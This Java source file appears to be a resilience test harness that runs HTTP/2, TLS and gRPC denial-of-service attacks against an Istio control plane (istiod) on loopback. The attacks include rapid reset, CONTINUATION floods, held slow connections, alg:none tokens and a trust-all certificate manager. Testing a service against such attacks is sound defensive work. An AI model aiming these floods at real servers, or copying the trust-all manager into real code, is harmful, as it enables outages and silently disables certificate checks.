package io.meltemi.it.load;

import static java.nio.charset.StandardCharsets.US_ASCII;

import com.google.common.base.Suppliers;
import com.google.protobuf.Struct;
import com.google.protobuf.Value;
import io.envoyproxy.envoy.config.core.v3.Node;
import io.envoyproxy.envoy.service.discovery.v3.DeltaDiscoveryRequest;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.security.GeneralSecurityException;
import java.security.cert.X509Certificate;
import java.time.Duration;
import java.util.ArrayDeque;
import java.util.Deque;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.function.Supplier;
import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLSocket;
import javax.net.ssl.TrustManager;
import javax.net.ssl.X509TrustManager;

/**
 * What a hostile client does to an istiod on loopback, from an address of its own, over and over
 * for some seconds. A program: {@link HostileLoad} runs it beside healthy clients.
 *
 * <p>Arguments: NAME SECONDS ADS-PORT SECURE-PORT HTTP-PORT MONITORING-PORT.
 */
final class Attacks {

  /** An address that no healthy client has. */
  private static final String FROM = "127.0.0.66";

  private static final int THREADS = 4;
  private static final int HELD = 2_500;
  private static final byte[] PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(US_ASCII);
  private static final byte[] NOTHING = new byte[0];
  private static final int DATA = 0;
  private static final int HEADERS = 1;
  private static final int RST_STREAM = 3;
  private static final int SETTINGS = 4;
  private static final int PING = 6;
  private static final int WINDOW_UPDATE = 8;
  private static final int CONTINUATION = 9;
  private static final int END_HEADERS = 4;
  private static final String ADS =
      "/envoy.service.discovery.v3.AggregatedDiscoveryService/DeltaAggregatedResources";
  private static final String CREATE = "/istio.v1.auth.IstioCertificateService/CreateCertificate";
  private static final String ALG_NONE =
      "eyJhbGciOiJub25lIn0.eyJzdWIiOiJzeXN0ZW06c2VydmljZWFjY291bnQ6YTpiIn0.";

  private final int ads;
  private final int secure;
  private final int http;
  private final int monitoring;
  private final long end;

  /** Listeners of this process: what its floods cost healthy clients without an istiod. */
  private final Supplier<Integer> closing = Suppliers.memoize(() -> listener(false));

  private final Supplier<Integer> reading = Suppliers.memoize(() -> listener(true));

  private Attacks(int seconds, int ads, int secure, int http, int monitoring) {
    this.ads = ads;
    this.secure = secure;
    this.http = http;
    this.monitoring = monitoring;
    this.end = System.nanoTime() + Duration.ofSeconds(seconds).toNanos();
  }

  /** One blow; called until the time is up. What it keeps in {@code held} stays open for longer. */
  private interface Blow {
    void strike(Deque<Socket> held) throws IOException, GeneralSecurityException;
  }

  /** Name to attack, in the order of the table. */
  private Map<String, Blow> all() {
    Map<String, Blow> all = new LinkedHashMap<>();
    all.put("control: connections to nobody", held -> hold(held, closing.get(), hello()));
    all.put("control: frames to nobody", _ -> flood(reading.get(), this::ping, false));
    all.put("connections that say nothing (TLS door)", held -> hold(held, secure, NOTHING));
    all.put("handshakes that never end", held -> hold(held, secure, clientHelloBeginning()));
    all.put("handshakes, one after the other", _ -> shakeHands().close());
    all.put("junk and alg:none tokens, ADS", _ -> tokens(ADS, "authorization", ALG_NONE));
    all.put(
        "junk tokens, CreateCertificate", _ -> tokens(CREATE, "authorization", "x".repeat(100)));
    all.put("rapid reset", _ -> flood(this::openAndReset, false));
    all.put("headers that never end", _ -> flood(i -> endless(i, oneHeader()), false));
    all.put("empty CONTINUATION frames", _ -> flood(i -> endless(i, NOTHING), false));
    all.put("SETTINGS, answers read", _ -> flood(_ -> frame(SETTINGS, 0, 0, NOTHING), true));
    all.put("SETTINGS, answers not read", _ -> flood(_ -> frame(SETTINGS, 0, 0, NOTHING), false));
    all.put("PING", _ -> flood(this::ping, true));
    all.put("WINDOW_UPDATE", _ -> flood(_ -> frame(WINDOW_UPDATE, 0, 0, one()), true));
    all.put("calls by the letter (15010)", held -> hold(held, ads, beginningOfACall()));
    all.put("streams that never read (15010)", held -> hold(held, ads, subscription(0)));
    all.put("streams that never acknowledge (15010)", this::neverAcknowledge);
    all.put("bytes that are no request (15010)", _ -> flood(this::junkMessage, true));
    all.put("upgrade to h2c", _ -> ask(ads, "Connection: Upgrade\r\nUpgrade: h2c\r\n"));
    all.put(
        "slow requests (8080)",
        held -> hold(held, http, "GET /ready HTTP/1.1\r\n".getBytes(US_ASCII)));
    all.put("scrapes (15014)", _ -> ask(monitoring, ""));
    return all;
  }

  static Iterable<String> names() {
    return new Attacks(0, 0, 0, 0, 0).all().keySet();
  }

  public static void main(String[] arguments) throws InterruptedException {
    Attacks attacks =
        new Attacks(
            Integer.parseInt(arguments[1]),
            Integer.parseInt(arguments[2]),
            Integer.parseInt(arguments[3]),
            Integer.parseInt(arguments[4]),
            Integer.parseInt(arguments[5]));
    Blow blow = attacks.all().get(arguments[0]);
    if (blow == null) {
      throw new IllegalArgumentException("no attack is called " + arguments[0]);
    }
    Thread[] threads = new Thread[THREADS];
    for (int i = 0; i < THREADS; i++) {
      threads[i] = Thread.ofPlatform().start(() -> attacks.run(blow));
    }
    for (Thread thread : threads) {
      thread.join();
    }
    System.exit(0);
  }

  private void run(Blow blow) {
    Deque<Socket> held = new ArrayDeque<>();
    while (!isOver()) {
      try {
        blow.strike(held);
      } catch (IOException | GeneralSecurityException _) {
        // cut off, which is what is hoped for; on to the next
      }
    }
  }

  private boolean isOver() {
    return System.nanoTime() > end;
  }

  private static Socket dial(int port) throws IOException {
    Socket socket =
        new Socket(InetAddress.getLoopbackAddress(), port, InetAddress.getByName(FROM), 0);
    socket.setSoTimeout(2_000);
    return socket;
  }

  /** Says something and stays: 10,000 connections of all threads at a time. */
  private void hold(Deque<Socket> held, int port, byte[] beginning) throws IOException {
    if (held.size() >= HELD) {
      held.removeFirst().close();
    }
    Socket socket = dial(port);
    held.addLast(socket);
    socket.getOutputStream().write(beginning);
  }

  private interface Source {
    byte[] frame(int i);
  }

  /** Frames on one connection, until it is cut off. */
  private void flood(Source source, boolean reads) throws IOException {
    flood(ads, source, reads);
  }

  private void flood(int port, Source source, boolean reads) throws IOException {
    try (Socket socket = dial(port)) {
      OutputStream out = socket.getOutputStream();
      out.write(hello());
      if (reads) {
        Thread.ofVirtual().start(() -> drain(socket));
      }
      for (int i = 0; !isOver(); i++) {
        out.write(source.frame(i));
      }
    }
  }

  private static int listener(boolean reads) {
    try {
      ServerSocket server = new ServerSocket(0, 128, InetAddress.getLoopbackAddress());
      Thread.ofPlatform().daemon().start(() -> accept(server, reads));
      return server.getLocalPort();
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  private static void accept(ServerSocket server, boolean reads) {
    while (true) {
      try {
        Socket socket = server.accept();
        if (reads) {
          Thread.ofVirtual().start(() -> drain(socket));
        } else {
          socket.close();
        }
      } catch (IOException e) {
        throw new UncheckedIOException(e);
      }
    }
  }

  private static void drain(Socket socket) {
    try {
      socket.getInputStream().transferTo(OutputStream.nullOutputStream());
    } catch (IOException _) {
      // cut off
    }
  }

  /** Calls over TLS, each with a header, until cut off. */
  private void tokens(String path, String header, String value)
      throws IOException, GeneralSecurityException {
    try (SSLSocket socket = shakeHands()) {
      Thread.ofVirtual().start(() -> drain(socket));
      OutputStream out = socket.getOutputStream();
      out.write(hello());
      byte[] call = call(path, header, value);
      for (int i = 0; !isOver(); i++) {
        out.write(frame(HEADERS, END_HEADERS | 1, 2 * i + 1, call));
      }
    }
  }

  private SSLSocket shakeHands() throws IOException, GeneralSecurityException {
    SSLContext context = SSLContext.getInstance("TLS");
    context.init(null, new TrustManager[] {new Credulous()}, null);
    SSLSocket socket =
        (SSLSocket)
            context
                .getSocketFactory()
                .createSocket(dial(secure), "istiod.istio-system.svc", secure, true);
    javax.net.ssl.SSLParameters parameters = socket.getSSLParameters();
    parameters.setApplicationProtocols(new String[] {"h2"});
    socket.setSSLParameters(parameters);
    socket.startHandshake();
    return socket;
  }

  /** An attacker does not care who we are. */
  private static final class Credulous implements X509TrustManager {
    @Override
    public void checkClientTrusted(X509Certificate[] chain, String type) {}

    @Override
    public void checkServerTrusted(X509Certificate[] chain, String type) {}

    @Override
    public X509Certificate[] getAcceptedIssuers() {
      return new X509Certificate[0];
    }
  }

  private void ask(int port, String headers) throws IOException {
    try (Socket socket = dial(port)) {
      socket
          .getOutputStream()
          .write(("GET /metrics HTTP/1.1\r\nHost: a\r\n" + headers + "\r\n").getBytes(US_ASCII));
      socket.getInputStream().readNBytes(1000);
    }
  }

  private void neverAcknowledge(Deque<Socket> held) throws IOException {
    hold(held, ads, subscription(1 << 20));
    Socket last = held.getLast();
    Thread.ofVirtual().start(() -> drain(last));
  }

  private byte[] ping(int i) {
    return frame(PING, 0, 0, new byte[8]);
  }

  private byte[] openAndReset(int i) {
    int stream = 2 * i + 1;
    return joined(
        frame(HEADERS, END_HEADERS, stream, call(ADS, "a", "b")),
        frame(RST_STREAM, 0, stream, new byte[] {0, 0, 0, 8}));
  }

  private static byte[] endless(int i, byte[] more) {
    return i == 0 ? frame(HEADERS, 0, 1, call(ADS, "a", "b")) : frame(CONTINUATION, 0, 1, more);
  }

  private byte[] junkMessage(int i) {
    int stream = 2 * i + 1;
    byte[] junk = ByteBuffer.allocate(105).put((byte) 0).putInt(100).array();
    junk[5] = 0x0a;
    junk[6] = 0x7f;
    return joined(
        frame(HEADERS, END_HEADERS, stream, call(ADS, "a", "b")), frame(DATA, 1, stream, junk));
  }

  private static byte[] clientHelloBeginning() {
    return new byte[] {0x16, 3, 1, 2, 0, 1, 0, 1, (byte) 0xfc, 3, 3};
  }

  private static byte[] hello() {
    return joined(PREFACE, frame(SETTINGS, 0, 0, NOTHING));
  }

  private static byte[] beginningOfACall() {
    return joined(hello(), frame(HEADERS, 0, 1, call(ADS, "a", "b")));
  }

  /** All clusters for somebody whose window is so large. */
  private static byte[] subscription(int window) {
    byte[] settings = ByteBuffer.allocate(6).putShort((short) 4).putInt(window).array();
    Value namespace = Value.newBuilder().setStringValue("ns-0").build();
    byte[] request =
        DeltaDiscoveryRequest.newBuilder()
            .setTypeUrl("type.googleapis.com/envoy.config.cluster.v3.Cluster")
            .setNode(
                Node.newBuilder()
                    .setId("sidecar~10.66.0.1~evil.ns-0~ns-0.svc.cluster.local")
                    .setMetadata(Struct.newBuilder().putFields("NAMESPACE", namespace)))
            .build()
            .toByteArray();
    byte[] message =
        ByteBuffer.allocate(5 + request.length)
            .put((byte) 0)
            .putInt(request.length)
            .put(request)
            .array();
    return joined(
        PREFACE,
        frame(SETTINGS, 0, 0, settings),
        frame(HEADERS, END_HEADERS, 1, call(ADS, "a", "b")),
        frame(DATA, 0, 1, message));
  }

  private static byte[] one() {
    return new byte[] {0, 0, 0, 1};
  }

  private static byte[] oneHeader() {
    ByteBuffer block = ByteBuffer.allocate(5);
    literal(block, "a", "b");
    return block.array();
  }

  /** HPACK without a table. */
  private static byte[] call(String path, String header, String value) {
    ByteBuffer block = ByteBuffer.allocate(1024);
    literal(block, ":method", "POST");
    literal(block, ":scheme", "http");
    literal(block, ":path", path);
    literal(block, ":authority", "istiod");
    literal(block, "content-type", "application/grpc");
    literal(block, "te", "trailers");
    literal(block, header, header.equals("authorization") ? "Bearer " + value : value);
    byte[] bytes = new byte[block.position()];
    block.flip().get(bytes);
    return bytes;
  }

  /** Lengths below 127, so that each is one byte. */
  private static void literal(ByteBuffer block, String name, String value) {
    block.put((byte) 0);
    block.put((byte) name.length()).put(name.getBytes(US_ASCII));
    block.put((byte) value.length()).put(value.getBytes(US_ASCII));
  }

  private static byte[] frame(int type, int flags, int stream, byte[] payload) {
    return ByteBuffer.allocate(9 + payload.length)
        .put((byte) (payload.length >> 16))
        .putShort((short) payload.length)
        .put((byte) type)
        .put((byte) flags)
        .putInt(stream)
        .put(payload)
        .array();
  }

  private static byte[] joined(byte[]... parts) {
    int length = 0;
    for (byte[] part : parts) {
      length += part.length;
    }
    ByteBuffer all = ByteBuffer.allocate(length);
    for (byte[] part : parts) {
      all.put(part);
    }
    return all.array();
  }
}
